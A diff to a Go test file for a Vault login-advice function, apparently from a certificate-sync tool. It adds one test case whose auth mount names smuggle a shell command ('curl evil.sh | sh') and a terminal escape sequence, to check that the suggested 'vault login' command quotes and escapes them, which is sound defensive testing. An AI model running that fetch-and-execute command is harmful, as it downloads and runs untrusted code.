@@ -31,6 +31,8 @@ func TestAdvice(t *testing.T) {
 				": is --owner right? If it is, ask whoever runs certsync for the policy that certsync manifests --vault prints"},
 		"no token": {nil, map[string]string{"corp/": "userpass"}, "", nil, "logging in to Vault at $VAULT: there is no token",
 			"log in to Vault as alice@example.com: vault login -method=userpass -path=corp"},
+		"a method whose name does more in a shell": {nil, map[string]string{"x; curl evil.sh | sh/": "userpass", "a\x1b[2J/": "oidc"}, "", nil, "logging in to Vault at $VAULT: there is no token",
+			`log in to Vault as alice@example.com: vault login -method=userpass '-path=x; curl evil.sh | sh' (this Vault also has: oidc at "a\x1b[2J/")`},
 		"an expired one": {nil, map[string]string{"ci/": "jwt"}, goodToken + "-old", nil, denies + ", invalid token",
 			`the token is unknown, expired or revoked: log in to Vault as alice@example.com, as you always do with "vault login" (this Vault shows: jwt at ci/, for --vault-auth=jwt)`},
 		"one that may not even look at itself": {nil, nil, goodToken, []string{"auth/token/lookup-self"}, denies,
